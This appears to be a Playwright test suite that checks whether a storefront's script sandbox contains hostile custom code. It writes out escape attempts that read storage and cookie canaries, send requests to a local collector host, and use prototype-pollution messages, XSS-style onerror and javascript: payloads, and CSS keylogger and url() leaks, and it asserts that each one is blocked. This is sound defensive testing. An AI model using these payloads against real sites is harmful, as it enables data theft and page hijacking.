import { expect, test, type Page } from '@playwright/test';
import {
  attack,
  COLLECTOR,
  expectContained,
  expectStopped,
  openLab,
  plantCanaries,
  setLab,
  slot,
  startCollector,
  watchLongTasks,
  type Collector,
  type LabSlot,
} from './sandboxHarness';

/**
 * The sandbox escape suite (issue 6, docs/security.md): each hostile customJS/customCSS runs in
 * the lab page's slot block against the real server, with canaries planted in the guest origin.
 * Every attempt must leave no request at the collector, no canary in the page, the top URL as it
 * was, the DOM outside its block unchanged and the main thread free of tasks over 50 ms.
 */

/** Helpers every hostile script starts with: recover a global from the prototype chain, report. */
const PRELUDE = `
const C = ${JSON.stringify(COLLECTOR)};
function recover(name) {
  for (let o = self; o; o = Object.getPrototypeOf(o)) {
    const d = Object.getOwnPropertyDescriptor(o, name);
    if (d && (d.get || d.value)) { try { return d.get ? d.get.call(self) : d.value; } catch (e) { return 'throws ' + e.name; } }
  }
  return undefined;
}
const out = {};
async function attempt(name, run) {
  try { out[name] = String(await run()).slice(0, 80); } catch (e) { out[name] = 'blocked ' + (e && e.name); }
}
function report() { blockfront.render({ type: 'text', text: 'report ' + JSON.stringify(out) }); }
`;

/** Hostile code that runs when the test presses the slot's "Attack" button. */
const onAttack = (code: string) =>
  `${PRELUDE}\nblockfront.render({ type: 'button', text: 'Attack', onPress: () => {\n${code}\n} });`;

let collector: Collector;
test.beforeAll(async () => {
  collector = await startCollector();
});
test.afterAll(async () => {
  await collector.close();
});

async function run(
  page: Page,
  request: Parameters<typeof setLab>[0],
  lab: LabSlot,
  options: { trigger: boolean } = { trigger: true },
) {
  await watchLongTasks(page);
  await plantCanaries(page);
  await setLab(request, [lab]);
  const opened = await openLab(page);
  if (options.trigger) await attack(page);
  return opened;
}

async function reportOf(page: Page): Promise<Record<string, string>> {
  const text = slot(page)
    .locator('.bf-ui-text')
    .filter({ hasText: /^report / });
  await expect(text).toBeVisible({ timeout: 8_000 });
  return JSON.parse((await text.innerText()).replace(/^report /, '')) as Record<string, string>;
}

test('storage: localStorage, sessionStorage, cookies, IndexedDB and caches are out of reach', async ({
  page,
  request,
}) => {
  const opened = await run(page, request, {
    customJS: onAttack(`(async () => {
  await attempt('localStorage', () => recover('localStorage').getItem('EC_Quote_Id'));
  await attempt('sessionStorage', () => recover('sessionStorage').getItem('EC_Quote_Id'));
  await attempt('cookie', () => (self.document && document.cookie) || 'none');
  await attempt('cookieStore', () => recover('cookieStore').get('bf_canary').then((c) => c && c.value));
  await attempt('indexedDB', () => new Promise((resolve, reject) => {
    const open = recover('indexedDB').open('bf-canary');
    open.onsuccess = () => open.result.transaction('secrets').objectStore('secrets').get('token').onsuccess = (e) => resolve(e.target.result);
    open.onerror = () => reject(open.error);
  }));
  await attempt('caches', () => recover('caches').keys());
  report();
})();`),
  });
  const seen = await reportOf(page);
  for (const name of ['localStorage', 'sessionStorage', 'indexedDB', 'caches']) {
    expect(seen[name], name).toMatch(/blocked|undefined/);
  }
  await expectContained(page, collector, opened);
});

test('parent, top, opener and top navigation are out of reach', async ({ page, request }) => {
  const opened = await run(page, request, {
    customJS: onAttack(`(async () => {
  // remote-dom's DOM polyfill gives the worker a stand-in window; it must not be the page's.
  const cookieOf = (w) => String(w && w.document && w.document.cookie);
  await attempt('parent', () => cookieOf(recover('parent')));
  await attempt('top', () => cookieOf(recover('top')));
  await attempt('opener', () => cookieOf(recover('opener')));
  await attempt('windowTop', () => { const w = self.window; w.top.location.href = C + '/top'; return 'assigned'; });
  await attempt('location', () => { self.location.href = C + '/self'; return self.location.href; });
  await attempt('open', () => (recover('open') || self.window.open)(C + '/open'));
  report();
})();`),
  });
  const seen = await reportOf(page);
  for (const name of ['parent', 'top', 'opener']) expect(seen[name], name).toBe('undefined');
  await expectContained(page, collector, opened);
});

test('network: fetch, XHR, EventSource, WebSocket, sendBeacon, importScripts and nested workers send nothing', async ({
  page,
  request,
}) => {
  const opened = await run(page, request, {
    customJS: onAttack(`(async () => {
  await attempt('fetch', () => recover('fetch').call(self, C + '/fetch').then((r) => r.status));
  await attempt('xhr', () => new Promise((resolve, reject) => {
    const x = new (recover('XMLHttpRequest'))();
    x.open('GET', C + '/xhr'); x.onload = () => resolve(x.status); x.onerror = () => reject(new Error('xhr error')); x.send();
  }));
  await attempt('eventSource', () => new Promise((resolve, reject) => {
    const s = new (recover('EventSource'))(C + '/sse'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('sse error'));
  }));
  await attempt('webSocket', () => new Promise((resolve, reject) => {
    const s = new (recover('WebSocket'))(C.replace('http', 'ws') + '/ws'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('ws error'));
  }));
  await attempt('sendBeacon', () => recover('navigator').sendBeacon(C + '/beacon', 'x'));
  await attempt('importScripts', () => recover('importScripts').call(self, C + '/import.js'));
  await attempt('nestedWorker', () => new (recover('Worker'))(C + '/worker.js'));
  await attempt('nestedBlobWorker', () => new Promise((resolve, reject) => {
    const url = URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(C + '/nested') + ')']));
    const w = new (recover('Worker'))(url); w.onerror = () => reject(new Error('worker error')); setTimeout(() => resolve('started'), 300);
  }));
  report();
})();`),
  });
  const seen = await reportOf(page);
  expect(seen.fetch).toMatch(/blocked/);
  expect(seen.xhr).toMatch(/blocked/);
  expect(seen.importScripts).toMatch(/blocked/);
  await expectContained(page, collector, opened);
});

test('eval, new Function, string timers and constructor chains are refused by the CSP', async ({
  page,
  request,
}) => {
  const opened = await run(page, request, {
    customJS: onAttack(`(async () => {
  await attempt('eval', () => (0, eval)('1 + 1'));
  await attempt('Function', () => new Function('return 2')());
  await attempt('stringTimer', () => new Promise((resolve) => { self.__timer = 'not run'; setTimeout('self.__timer = "ran"', 0); setTimeout(() => resolve(self.__timer), 50); }));
  await attempt('arrowConstructor', () => (() => {}).constructor('return globalThis')());
  await attempt('arrayChain', () => [].constructor.constructor('return fetch')());
  await attempt('asyncChain', () => Object.getPrototypeOf(async function () {}).constructor('return 1')());
  await attempt('apiChain', () => blockfront.toast.constructor('return 1')());
  report();
})();`),
  });
  const seen = await reportOf(page);
  for (const name of [
    'eval',
    'Function',
    'arrowConstructor',
    'arrayChain',
    'asyncChain',
    'apiChain',
  ]) {
    expect(seen[name], name).toBe('blocked EvalError');
  }
  expect(seen.stringTimer).toBe('not run');
  await expectContained(page, collector, opened);
});

test('a message with a __proto__ key stops the block', async ({ page, request }) => {
  const opened = await run(page, request, {
    customJS: onAttack(
      `self.postMessage('{"t":"mutate","records":[],"__proto__":{"polluted":"yes"}}');`,
    ),
  });
  await expectStopped(page, /"__proto__" key/);
  expect(await page.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
  await expectContained(page, collector, opened);
});

test('a constructor.prototype payload inside a mutation stops the block', async ({
  page,
  request,
}) => {
  const opened = await run(page, request, {
    customJS: onAttack(
      `self.postMessage(JSON.stringify({ t: 'mutate', records: [[3, '1', 'tone', { constructor: { prototype: { polluted: 1 } } }]] }));`,
    ),
  });
  await expectStopped(page, /"(constructor|prototype)" key/);
  expect(await page.evaluate(() => (({}) as Record<string, unknown>).polluted)).toBeUndefined();
  await expectContained(page, collector, opened);
});

test('forged window messages to the page and the frame change nothing', async ({
  page,
  request,
}) => {
  const opened = await run(
    page,
    request,
    {
      customJS: `blockfront.render({ type: 'text', text: 'still here' });`,
    },
    { trigger: false },
  );
  await expect(slot(page).locator('.bf-ui-text')).toHaveText('still here');
  await page.evaluate(() => {
    const frame = document.querySelector<HTMLIFrameElement>('iframe[data-bf-sandbox]')!;
    const forged = JSON.stringify({
      t: 'mutate',
      records: [[0, '~', { id: 'x', type: 3, data: 'forged' }, 0]],
    });
    window.postMessage(forged, '*');
    window.postMessage({ t: 'navigate', to: 'https://example.org' }, '*');
    frame.contentWindow!.postMessage({ type: 'bf-sandbox-init', runtime: 'fetch("/x")' }, '*', [
      new MessageChannel().port2,
    ]);
    frame.contentWindow!.postMessage({ type: 'spawn', blockId: 'lab-slot-1#1', code: 'x' }, '*');
  });
  await page.waitForTimeout(500);
  await expect(slot(page).locator('.bf-ui-text')).toHaveText('still here');
  await expect(page.getByText('forged')).toHaveCount(0);
  await expectContained(page, collector, opened);
});

for (const [name, code, reason] of [
  [
    'an unknown element (<script>)',
    `blockfront.root.append(document.createElement('script'));`,
    /not allowed: <script>/,
  ],
  [
    'an unknown element (<iframe>)',
    `const f = document.createElement('iframe'); f.src = C + '/frame'; blockfront.root.append(f);`,
    /not allowed: <iframe>/,
  ],
  [
    'innerHTML',
    `const s = document.createElement('ui-stack'); s.innerHTML = '<img src=x onerror="fetch(C)">'; blockfront.root.append(s);`,
    /refused/,
  ],
  [
    'an on* property',
    `const b = document.createElement('ui-button'); blockfront.root.append(b); b.updateRemoteProperty('onclick', 'fetch(C)');`,
    /no property "onclick"/,
  ],
  [
    'a javascript: link',
    `blockfront.render({ type: 'link', to: 'javascript:fetch(C)', text: 'x' });`,
    /value refused/,
  ],
  [
    'an image off the allowed hosts',
    `blockfront.render({ type: 'image', src: C + '/pixel.png', alt: 'x' });`,
    /value refused/,
  ],
] as const) {
  test(`${name} is refused and stops the block`, async ({ page, request }) => {
    const opened = await run(page, request, {
      customJS: onAttack(code),
    });
    await expectStopped(page, reason);
    await expectContained(page, collector, opened);
  });
}

test('navigation to external, protocol-relative or script URLs is refused', async ({
  page,
  request,
}) => {
  const opened = await run(page, request, {
    customJS:
      onAttack(`for (const to of [C + '/nav', '//127.0.0.1:' + C.split(':')[2] + '/x', '/\\\\127.0.0.1/x', 'javascript:fetch(C)', ' /x', 'data:text/html,x']) blockfront.navigate(to);
blockfront.render({ type: 'text', text: 'navigations sent' });`),
  });
  await expect(slot(page).locator('.bf-ui-text')).toHaveText('navigations sent');
  await expectContained(page, collector, opened);
});

test('add to cart without a click in the block is refused before it reaches the cart', async ({
  page,
  request,
}) => {
  const opened = await run(
    page,
    request,
    {
      customJS: `blockfront.addToCart({ productId: 'a1Cellaris0000001', quantity: 1 }).then(
  () => blockfront.render({ type: 'text', text: 'added' }),
  (error) => blockfront.render({ type: 'text', text: 'refused: ' + error.message }));`,
    },
    { trigger: false },
  );
  await expect(slot(page).locator('.bf-ui-text')).toHaveText(
    "refused: Add to cart needs a click on one of this block's buttons.",
  );
  // The cart was never asked: it would have said it is not available on this page.
  await expect(page.getByText('The cart is not available on this page.')).toHaveCount(0);
  await expectContained(page, collector, opened);
});

test('an infinite loop is stopped by the watchdog', async ({ page, request }) => {
  const opened = await run(page, request, { customJS: `for (;;) {}` }, { trigger: false });
  await expectStopped(page, /did not answer within 500 ms|no first render within 3 s/);
  await expectContained(page, collector, opened);
});

test('an event handler that never returns is stopped within its budget', async ({
  page,
  request,
}) => {
  const opened = await run(page, request, {
    customJS: onAttack(`for (;;) {}`),
  });
  await expectStopped(page, /"press" handler did not answer within 500 ms/);
  await expectContained(page, collector, opened);
});

test('a node flood is stopped at 2,000 nodes', async ({ page, request }) => {
  const opened = await run(page, request, {
    customJS: onAttack(
      `const s = document.createElement('ui-stack'); for (let i = 0; i < 2500; i++) s.append(document.createElement('ui-badge')); blockfront.root.append(s);`,
    ),
  });
  await expectStopped(page, /more than 2000 nodes/);
  await expectContained(page, collector, opened);
});

test('a mutation flood is stopped', async ({ page, request }) => {
  const opened = await run(page, request, {
    customJS:
      onAttack(`const t = document.createElement('ui-text'); t.append('0'); blockfront.root.append(t);
setInterval(() => { for (let i = 0; i < 400; i++) { t.tone = i % 2 ? 'muted' : 'info'; } }, 0);`),
  });
  await expectStopped(page, /more than 1000 mutations in a second/);
  await expectContained(page, collector, opened);
});

test('a huge message is dropped in the frame and stops the block', async ({ page, request }) => {
  const opened = await run(page, request, {
    customJS: onAttack(`self.postMessage('x'.repeat(32 * 1024 * 1024));`),
  });
  await expectStopped(page, /over 262144 characters/);
  await expectContained(page, collector, opened);
});

test('CSS fixed overlays and :host overrides stay inside the block', async ({ page, request }) => {
  const opened = await run(
    page,
    request,
    {
      customJS: `blockfront.render({ type: 'stack', children: [{ type: 'text', text: 'overlay' }] });`,
      customCSS: `:host { position: fixed; inset: 0; z-index: 2147483647; background: red; width: 100vw; height: 100vh; }
.bf-ui-stack { position: absolute; top: -3000px; left: -3000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red; }`,
    },
    { trigger: false },
  );
  await expect(slot(page).locator('.bf-ui-text')).toHaveText('overlay');
  // The neighbour is not covered: a click lands on it.
  await page
    .getByText('Neighbour block: nothing here may change.')
    .click({ trial: true, timeout: 2_000 });
  const inside = await slot(page).evaluate((block) => {
    const neighbour = document
      .querySelector('[data-block-id]:not([data-block-id^="lab-slot"]) p')!
      .getBoundingClientRect();
    const hit = document.elementFromPoint(neighbour.left + 5, neighbour.top + 5);
    // Painted content of the slot is clipped to its own box, which starts below the neighbour.
    return {
      hitNeighbour: !block.contains(hit),
      below: block.getBoundingClientRect().top >= neighbour.bottom,
    };
  });
  expect(inside).toEqual({ hitNeighbour: true, below: true });
  await expectContained(page, collector, opened);
});

test("customCSS styles its block's own content and no neighbour, before or after it", async ({
  page,
  request,
}) => {
  await watchLongTasks(page);
  await plantCanaries(page);
  // Slot 1 attacks; slot 2 follows it, the seeded neighbour precedes it.
  await setLab(request, [
    {
      customCSS: `~ * { display: none } + * { display: none } > * { display: none }
p { color: rgb(255, 0, 0) }`,
    },
    {},
  ]);
  const opened = await openLab(page);
  await expect(page.getByText('Lab slot 1')).toHaveCSS('color', 'rgb(255, 0, 0)');
  for (const neighbour of ['Neighbour block: nothing here may change.', 'Lab slot 2']) {
    await expect(page.getByText(neighbour)).toBeVisible();
    await expect(page.getByText(neighbour)).not.toHaveCSS('color', 'rgb(255, 0, 0)');
  }
  await expectContained(page, collector, opened);
});

test('CSS @import, url(), :host-context and attribute-selector keyloggers load nothing', async ({
  page,
  request,
}) => {
  const opened = await run(
    page,
    request,
    {
      customJS: `blockfront.render({ type: 'text', text: 'styled' });`,
      customCSS: `@import url(${COLLECTOR}/import.css);
@font-face { font-family: leak; src: url(${COLLECTOR}/font.woff2); }
:host { background-image: url(${COLLECTOR}/host.png); font-family: leak; }
:host-context(body) { background: url(${COLLECTOR}/context.png); outline-color: rgb(9, 9, 9); }
input[value$="a"] { background: url(${COLLECTOR}/key-a); outline-color: rgb(9, 9, 9); }
.bf-ui-text[data-tone] { background: url(${COLLECTOR}/attr); outline-color: rgb(9, 9, 9); }
.bf-ui-text { background: url(//127.0.0.1:${COLLECTOR.split(':')[2]}/relative); color: rgb(1, 2, 3); }`,
    },
    { trigger: false },
  );
  await expect(slot(page).locator('.bf-ui-text')).toHaveText('styled');
  await expect(slot(page).locator('.bf-ui-text')).toHaveCSS('color', 'rgb(1, 2, 3)');
  const adopted = await slot(page)
    .locator('.bf-sandbox')
    .evaluate((host) =>
      host
        .shadowRoot!.adoptedStyleSheets.flatMap((sheet) =>
          [...sheet.cssRules].map((rule) => rule.cssText),
        )
        .join('\n'),
    );
  expect(adopted).not.toContain('127.0.0.1');
  // The rules themselves go, not only their url()s: each also sets a harmless colour that no
  // sheet of ours uses (the trusted base sheet has attribute selectors of its own).
  expect(adopted).not.toContain('host-context');
  expect(adopted).not.toContain('rgb(9, 9, 9)');
  await expectContained(page, collector, opened);
});
